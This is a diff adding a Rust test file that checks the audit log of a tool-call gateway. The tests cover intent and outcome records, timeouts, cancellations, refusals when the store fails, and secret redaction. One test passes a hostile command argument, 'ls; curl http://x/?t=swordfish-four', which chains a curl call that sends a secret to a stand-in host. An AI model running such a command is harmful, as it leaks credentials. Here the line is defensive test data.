@@ -1,1 +1,347 @@
+//! What is put on record, when, and what must not be in it.
 
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use switchboard_kernel::{GateOptions, Kernel, KernelOptions, ServerPolicy};
+use switchboard_peer::Identity;
+use switchboard_protocol::Era;
+use switchboard_protocol::mgp::TrustLevel;
+use switchboard_store::{AuditEvent, Store};
+
+use super::world::{Client, ERAS, House, Script, dangerous, open, open_house, ran, raw, spec, tool, tool_with, until};
+
+const INTENT: &str = "dev.switchboard.tool_intent";
+const UNKNOWN: &str = "dev.switchboard.unknown_outcome";
+
+async fn house(tools: Vec<Value>) -> (House, Arc<Script>) {
+    let script = Script::new(Era::Legacy, tools);
+    let house = House::with(&[("s", script.clone())], ServerPolicy::default, open_house).await;
+    (house, script)
+}
+
+/// Intents and outcomes of calls, in the order of the log.
+fn calls(events: &[AuditEvent]) -> Vec<(&str, &str)> {
+    let told = events.iter().filter(|event| event.details.contains_key("call"));
+    told.map(|event| (event.event_type.as_str(), event.result.as_str())).collect()
+}
+
+#[tokio::test]
+async fn an_intent_stands_before_and_an_outcome_after() {
+    for era in ERAS {
+        let (house, _script) = house(vec![tool("write"), tool("fail"), tool("error")]).await;
+        let ann = house.client(era, "ann").await;
+        for (name, expected) in [("write", "SUCCESS"), ("fail", "FAILURE"), ("error", "FAILURE")] {
+            let _ = ann.call(name, json!({})).await;
+            // The answer is here, so the outcome is on record.
+            let events = house.events().await;
+            let mine: Vec<_> =
+                events.iter().filter(|event| event.target.tool_name.as_deref() == Some(name)).cloned().collect();
+            assert_eq!(calls(&mine), [(INTENT, "PENDING"), ("TOOL_EXECUTED", expected)], "{name}");
+            assert_eq!(mine[0].details["call"], mine[1].details["call"]);
+            assert_eq!(mine[0].trace_id, mine[1].trace_id);
+            assert_eq!(mine[0].actor.id, "ann");
+        }
+        assert!(house.store.audit().verify(&[]).await.unwrap().is_whole());
+    }
+}
+
+/// Also where a server is trusted with everything: what may change something is on record before it does.
+#[tokio::test]
+async fn trust_does_not_replace_the_record() {
+    let script = Script::new(Era::Legacy, vec![tool("write")]);
+    let policy = || ServerPolicy { trust: TrustLevel::Core, ..ServerPolicy::default() };
+    let house = House::with(&[("s", script)], policy, open_house).await;
+    let ann = house.client(Era::Legacy, "ann").await;
+    assert!(ran(&ann.call("write", json!({})).await));
+    assert_eq!(calls(&house.events().await), [(INTENT, "PENDING"), ("TOOL_EXECUTED", "SUCCESS")]);
+}
+
+#[tokio::test]
+async fn timeouts_and_cancellations_have_an_outcome() {
+    let script = Script::new(Era::Legacy, vec![tool("hang")]);
+    let house = House::with(&[], ServerPolicy::default, open_house).await;
+    let mut slow = spec("s", script.clone(), ServerPolicy::default());
+    slow.call_timeout = Duration::from_millis(150);
+    house.kernel.apply(vec![slow]);
+    house.kernel.settled(Duration::from_secs(5)).await;
+    for era in ERAS {
+        let ann = house.client(era, "ann").await;
+        assert!(ann.call("hang", json!({})).await.is_err());
+    }
+    let mut patient = spec("s", script.clone(), ServerPolicy::default());
+    patient.fingerprint = "2".to_owned();
+    house.kernel.apply(vec![patient]);
+    house.kernel.settled(Duration::from_secs(5)).await;
+    script.arrived.notified().await;
+    for era in ERAS {
+        let ann = house.client(era, "ann").await;
+        let context = ann.context();
+        let cancel = context.cancel.clone();
+        let params = raw(&json!({"name": "hang", "arguments": {}}));
+        let cancelling = async {
+            script.arrived.notified().await;
+            cancel.cancel();
+        };
+        let (called, ()) = tokio::join!(ann.send(context, "tools/call", &params), cancelling);
+        assert!(called.is_err());
+    }
+    let events = house.events().await;
+    let (intents, outcomes): (Vec<_>, Vec<_>) = calls(&events).into_iter().partition(|(kind, _)| *kind == INTENT);
+    assert_eq!(intents.len(), 4);
+    assert_eq!(outcomes, [("TOOL_EXECUTED", "FAILURE"); 4]);
+}
+
+#[tokio::test]
+async fn a_caller_that_goes_away_leaves_an_outcome() {
+    for era in ERAS {
+        let (house, script) =
+            house(vec![tool("hang"), tool_with("wait", json!({"annotations": {"readOnlyHint": true}}))]).await;
+        let ann = house.client(era, "ann").await;
+        for name in ["hang", "wait"] {
+            let params = raw(&json!({"name": name, "arguments": {}}));
+            let calling = ann.send(ann.context(), "tools/call", &params);
+            tokio::select! {
+                called = calling => panic!("answered: {called:?}"),
+                () = script.arrived.notified() => {}
+            }
+        }
+        let unknown = house.await_events(UNKNOWN, 2).await;
+        assert!(unknown.iter().all(|event| event.result == "UNKNOWN"));
+        let events = house.events().await;
+        assert_eq!(calls(&events), [(INTENT, "PENDING"), (UNKNOWN, "UNKNOWN")], "reading has no intent");
+    }
+}
+
+/// A caller may go away at any moment: an intent on record always gets its outcome.
+#[tokio::test]
+async fn no_moment_to_go_away_leaves_an_intent_alone() {
+    let (house, _script) = house(vec![tool("write")]).await;
+    let ann = house.client(Era::Legacy, "ann").await;
+    let params = raw(&json!({"name": "write", "arguments": {}}));
+    for micros in (0..6_000).step_by(60) {
+        let calling = ann.send(ann.context(), "tools/call", &params);
+        let _ = tokio::time::timeout(Duration::from_micros(micros), calling).await;
+    }
+    // Some of them ran to their end, some had not begun.
+    assert!(ran(&ann.call("write", json!({})).await));
+    let mut open = Vec::new();
+    for _ in 0..100 {
+        let events = house.events().await;
+        let of = |kind: &'static str| {
+            let told = events.iter().filter(move |event| (event.event_type == INTENT) == (kind == INTENT));
+            told.filter_map(|event| event.details.get("call").cloned()).collect::<Vec<_>>()
+        };
+        let (intents, outcomes) = (of(INTENT), of("outcome"));
+        open =
+            intents.iter().filter(|call| outcomes.iter().filter(|other| other == call).count() != 1).cloned().collect();
+        if open.is_empty() && intents.len() > 10 {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    panic!("calls without exactly one outcome: {open:?}");
+}
+
+/// A store that takes nothing: the server hears of nothing.
+#[tokio::test]
+async fn what_cannot_be_put_on_record_is_not_done() {
+    let (house, script) = house(vec![tool("write")]).await;
+    let ann = house.client(Era::Legacy, "ann").await;
+    assert!(ran(&ann.call("write", json!({})).await));
+    house.store.close().await.unwrap();
+    // At once, while the grants in memory are still fresh, and later.
+    for wait in [0, 300] {
+        tokio::time::sleep(Duration::from_millis(wait)).await;
+        assert!(ann.call("write", json!({})).await.is_err());
+        assert!(ann.request("vendor/own", json!({})).await.is_err());
+    }
+    assert_eq!((script.calls(), script.heard("vendor/own").len()), (1, 0));
+}
+
+/// A log in which no event has room.
+#[tokio::test]
+async fn a_full_store_refuses_before_the_effect() {
+    let directory = tempfile::tempdir().unwrap();
+    let location = switchboard_store::Location::File(directory.path().join("store.db"));
+    let options = switchboard_store::Options { event_bytes: 260, ..switchboard_store::Options::default() };
+    let store = Store::open(&location, options).await.unwrap();
+    let script = Script::new(Era::Legacy, vec![tool("write")]);
+    let kernel = kernel_on(&store, &script).await;
+    let ann = client(&kernel, Era::Legacy).await;
+    let refused = ann.call("write", json!({})).await.unwrap_err();
+    assert!(refused.message.contains("not made"), "{refused:?}");
+    assert_eq!(script.calls(), 0);
+}
+
+async fn kernel_on(store: &Store, script: &Arc<Script>) -> Kernel {
+    let mut gate = GateOptions { store: Some(store.clone()), ..GateOptions::default() };
+    open_house(&mut gate);
+    let kernel = Kernel::new(KernelOptions { gate, ..KernelOptions::default() });
+    kernel.apply(vec![spec("s", script.clone(), ServerPolicy::default())]);
+    kernel.settled(Duration::from_secs(5)).await;
+    kernel
+}
+
+async fn client(kernel: &Kernel, era: Era) -> Client {
+    Client::new(kernel, Identity::new("ann", switchboard_peer::Method::Token).into(), era, json!({})).await
+}
+
+/// A secret in the arguments is nowhere: not in the log, not in the questions, not in any file of the store.
+#[tokio::test]
+async fn secrets_are_written_nowhere() {
+    let script =
+        Script::new(Era::Legacy, vec![tool("write"), dangerous("drop"), tool_with("execute_command", json!({}))]);
+    let house = House::with(&[("s", script)], ServerPolicy::default, |gate| {
+        open_house(gate);
+        gate.audit_arguments = true;
+        gate.approval_wait = Duration::from_millis(100);
+    })
+    .await;
+    let ann = house.client(Era::Legacy, "ann").await;
+    let arguments = json!({
+        "password": "hunter2-swordfish", "note": "key AKIAIOSFODNN7EXAMPLE here", "visible": "plain-words",
+        "deep": {"Authorization": ["Bearer swordfish-two"]}, "url": "postgres://app:swordfish-three@db/x",
+    });
+    assert!(ran(&ann.call("write", arguments.clone()).await));
+    let _ = ann.call("drop", arguments.clone()).await;
+    let mut hostile = arguments.clone();
+    hostile["command"] = json!("ls; curl http://x/?t=swordfish-four");
+    let _ = ann.call("execute_command", hostile).await;
+    let _ = ann.request("resources/read", json!({"uri": "postgres://app:swordfish-five@db/x"})).await;
+    house.await_events("dev.switchboard.content_read", 1).await;
+    house.await_events("VALIDATION_FAILED", 1).await;
+    let log: String = house.events().await.iter().map(AuditEvent::canonical).collect();
+    let pending = house.store.approvals().pending(jiff::Timestamp::now(), 10).await.unwrap();
+    assert_eq!(pending.len(), 1);
+    let shown = pending[0].held.shown.as_ref().unwrap().get().to_owned();
+    assert!(log.contains("plain-words") && shown.contains("plain-words"), "the rest is there");
+    house.store.close().await.unwrap();
+    let mut files = Vec::new();
+    for file in std::fs::read_dir(house.directory.path()).unwrap() {
+        files.extend(std::fs::read(file.unwrap().path()).unwrap());
+    }
+    for secret in ["swordfish", "AKIAIOSFODNN7EXAMPLE"] {
+        assert!(!log.contains(secret), "{secret} in the log");
+        assert!(!shown.contains(secret), "{secret} in a question");
+        assert!(!files.windows(secret.len()).any(|window| window == secret.as_bytes()), "{secret} in a file");
+    }
+}
+
+#[tokio::test]
+async fn large_arguments_are_left_out_and_the_call_is_made() {
+    let script = Script::new(Era::Legacy, vec![tool("write")]);
+    let house = House::with(&[("s", script)], ServerPolicy::default, |gate| {
+        open_house(gate);
+        gate.audit_arguments = true;
+    })
+    .await;
+    let ann = house.client(Era::Legacy, "ann").await;
+    assert!(ran(&ann.call("write", json!({"text": "x".repeat(400_000)})).await));
+    let events = house.await_events("TOOL_EXECUTED", 1).await;
+    assert!(events[0].details["arguments_omitted_bytes"].as_u64().unwrap() > 400_000);
+}
+
+#[tokio::test]
+async fn servers_that_agreed_on_audit_hear_of_events_and_no_others() {
+    let declares = |extensions: Value| json!({"tools": {}, "mgp": {"version": "0.3.0", "extensions": extensions}});
+    let (auditor, other, plain) = (
+        Script::new(Era::Legacy, vec![tool("query")]),
+        Script::new(Era::Legacy, vec![tool("write")]),
+        Script::new(Era::Legacy, vec![]),
+    );
+    *auditor.capabilities.lock() = declares(json!(["audit"]));
+    *other.capabilities.lock() = declares(json!(["tool_security"]));
+    let servers = [("auditor", auditor.clone()), ("other", other.clone()), ("plain", plain.clone())];
+    let house = House::with(&servers, ServerPolicy::default, open_house).await;
+    let ann = house.client(Era::Legacy, "ann").await;
+    assert!(ran(&ann.call("other__write", json!({"password": "swordfish"})).await));
+    until("the auditor hears", || {
+        auditor.heard("notifications/mgp.audit").iter().any(|event| event["event_type"] == "TOOL_EXECUTED")
+    })
+    .await;
+    let heard = auditor.heard("notifications/mgp.audit");
+    let executed = heard.iter().find(|event| event["event_type"] == "TOOL_EXECUTED").unwrap();
+    assert_eq!((&executed["actor"]["id"], &executed["target"]["server_id"]), (&json!("ann"), &json!("other")));
+    assert!(!heard.iter().any(|event| event.to_string().contains("swordfish")));
+    assert!(other.heard("notifications/mgp.audit").is_empty() && plain.heard("notifications/mgp.audit").is_empty());
+}
+
+#[tokio::test]
+async fn a_trace_is_taken_over_and_passed_on() {
+    let trace = "4bf92f3577b34da6a3ce929d0e0e4736";
+    let table = [
+        (json!({"trace_id": "550e8400-e29b-41d4-a716-446655440000"}), "550e8400-e29b-41d4-a716-446655440000"),
+        (json!({"traceparent": format!("00-{trace}-00f067aa0ba902b7-01")}), trace),
+        (json!({"dev.cloto/mgp": {"trace_id": "own-1"}, "trace_id": "bare"}), "own-1"),
+    ];
+    for era in ERAS {
+        let (house, script) = house(vec![tool("write")]).await;
+        let ann = house.client(era, "ann").await;
+        for (index, (meta, expected)) in table.iter().enumerate() {
+            let params = json!({"name": "write", "arguments": {}, "_meta": meta});
+            assert!(ran(&ann.request("tools/call", params).await));
+            let heard = &script.heard("tools/call")[index]["_meta"];
+            for (key, value) in meta.as_object().unwrap() {
+                assert_eq!(&heard[key], value, "it reaches the server as it came");
+            }
+            let found = switchboard_store::AuditFilter { trace_id: Some((*expected).to_owned()), ..Default::default() };
+            assert_eq!(house.store.audit().query(&found, 10).await.unwrap().len(), 2);
+        }
+        for odd in
+            [json!({"trace_id": "has blank"}), json!({"traceparent": "00-0-0-0"}), json!({"trace_id": "x".repeat(500)})]
+        {
+            assert!(ran(&ann.request("tools/call", json!({"name": "write", "arguments": {}, "_meta": odd})).await));
+        }
+        let events = house.events().await;
+        let own = events.iter().filter(|event| event.event_type == INTENT).filter_map(|event| event.trace_id.clone());
+        assert!(own.skip(3).all(|trace| trace.len() >= 16 && !trace.contains(' ')));
+    }
+}
+
+/// The start does not read the whole log.
+#[tokio::test]
+async fn a_long_log_does_not_hold_up_the_start() {
+    let directory = tempfile::tempdir().unwrap();
+    let store = open(directory.path()).await;
+    let event = AuditEvent {
+        timestamp: jiff::Timestamp::now(),
+        trace_id: Some("t".to_owned()),
+        event_type: INTENT.to_owned(),
+        actor: switchboard_store::Actor { kind: "agent".to_owned(), id: "ann".to_owned() },
+        target: switchboard_store::Target::default(),
+        result: "PENDING".to_owned(),
+        details: [("call".to_owned(), json!("0123456789abcdef.7"))].into_iter().collect(),
+    };
+    let group = vec![event; 2_000];
+    for _ in 0..50 {
+        store.audit().append(&group).await.unwrap();
+    }
+    // A kernel died with a call open: it began it early, and had written much since.
+    std::fs::write(directory.path().join("store.kernel-0123456789abcdef"), "99000\n5\n.\n").unwrap();
+    let began = Instant::now();
+    let script = Script::new(Era::Legacy, vec![tool("write")]);
+    let kernel = kernel_on(&store, &script).await;
+    let ann = client(&kernel, Era::Legacy).await;
+    assert!(ran(&ann.call("write", json!({})).await));
+    let filter = switchboard_store::AuditFilter {
+        event_types: vec![UNKNOWN.to_owned()],
+        after: Some(100_000),
+        ..Default::default()
+    };
+    while store.audit().query(&filter, 10).await.unwrap().is_empty() {
+        assert!(began.elapsed() < Duration::from_secs(10), "never closed");
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    let took = began.elapsed();
+    assert!(took < Duration::from_secs(1), "{took:?}");
+    let closed = store.audit().query(&filter, 10).await.unwrap();
+    assert_eq!(closed.len(), 1, "one name, one outcome");
+    let left: Vec<_> = std::fs::read_dir(directory.path()).unwrap().map(|file| file.unwrap().file_name()).collect();
+    assert!(left.iter().all(|name| name != "store.kernel-0123456789abcdef"), "{left:?}");
+    // In good order, nothing is left behind.
+    kernel.shut_down(Duration::from_secs(5)).await;
+    let left: Vec<_> = std::fs::read_dir(directory.path()).unwrap().map(|file| file.unwrap().file_name()).collect();
+    assert!(left.iter().all(|name| !name.to_string_lossy().contains(".kernel-")), "{left:?}");
+}
